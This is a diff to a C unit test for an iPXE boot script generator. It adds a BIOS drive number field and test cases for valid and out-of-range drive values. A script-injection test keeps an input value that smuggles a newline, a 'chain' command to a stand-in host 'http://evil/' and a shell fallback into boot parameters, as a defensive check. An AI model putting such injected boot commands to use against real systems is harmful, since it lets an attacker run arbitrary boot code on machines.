@@ -140,25 +140,29 @@ static void test_scripts(void **state)
 		enum boot_action action;
 		bool firmware;
 		const char *esp_uuid, *console;
+		unsigned bios_drive;
 	} rows[] = {
-		{"agent-x86_64.ipxe", "x86_64", BOOT_AGENT, false, NULL, NULL},
-		{"agent-x86_64.ipxe", "x86_64", BOOT_AGENT, false, NULL, ""},
-		{"agent-console.ipxe", "x86_64", BOOT_AGENT, false, NULL, "ttyS1,115200n8"},
-		{"agent-aarch64.ipxe", "arm64", BOOT_AGENT, true, NULL, NULL},
-		{"local.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL},
-		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "", NULL},
+		{"agent-x86_64.ipxe", "x86_64", BOOT_AGENT, false, NULL, NULL, 0},
+		{"agent-x86_64.ipxe", "x86_64", BOOT_AGENT, false, NULL, "", 0},
+		{"agent-console.ipxe", "x86_64", BOOT_AGENT, false, NULL, "ttyS1,115200n8", 0},
+		{"agent-aarch64.ipxe", "arm64", BOOT_AGENT, true, NULL, NULL, 0},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL, 0},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "", NULL, 0},
+		{"local-second-drive.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL, 0x81},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL, 0x7f},
+		{"local.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL, 0x180},
 		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b105010",
-		 NULL},
+		 NULL, 0},
 		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b1050101x",
-		 NULL},
+		 NULL, 0},
 		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a1043c1e-4b57-9a41-51a7b1050101",
-		 NULL},
+		 NULL, 0},
 		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b10501\nx",
-		 NULL},
+		 NULL, 0},
 		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-${serial}xx",
-		 NULL},
+		 NULL, 0},
 		{"local-esp.ipxe", "x86_64", BOOT_LOCAL, false,
-		 "5d0f7a10-3c1e-4b57-9a41-51A7b1050101", NULL},
+		 "5d0f7a10-3c1e-4b57-9a41-51A7b1050101", NULL, 0},
 	};
 	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
@@ -172,7 +176,8 @@ static void test_scripts(void **state)
 						rows[i].firmware ? "debug" : NULL,
 						rows[i].console,
 						rows[i].firmware,
-						rows[i].esp_uuid};
+						rows[i].esp_uuid,
+						rows[i].bios_drive};
 		boot_query_set(&q, "arch", rows[i].arch);
 		str_init(&out, SCRIPT_MAX_BYTES);
 		boot_script_write(&out, &q, &a, &o);
@@ -195,8 +200,8 @@ static void test_script_injection(void **state)
 		autostr struct str out;
 		struct boot_query q = {.cpu_64bit = true};
 		struct boot_answer a = {BOOT_AGENT, "because"};
-		struct boot_script_options o = {"http://h", "https://h", "p",   "b",
-						NULL,       NULL,        false, NULL};
+		struct boot_script_options o = {"http://h", "https://h", "p",  "b", NULL,
+						NULL,       false,       NULL, 0};
 		boot_query_set(&q, "arch", "x86_64");
 		boot_query_set(&q, parameters[i], "EVIL\nchain http://evil/${x} || shell");
 		str_init(&out, SCRIPT_MAX_BYTES);
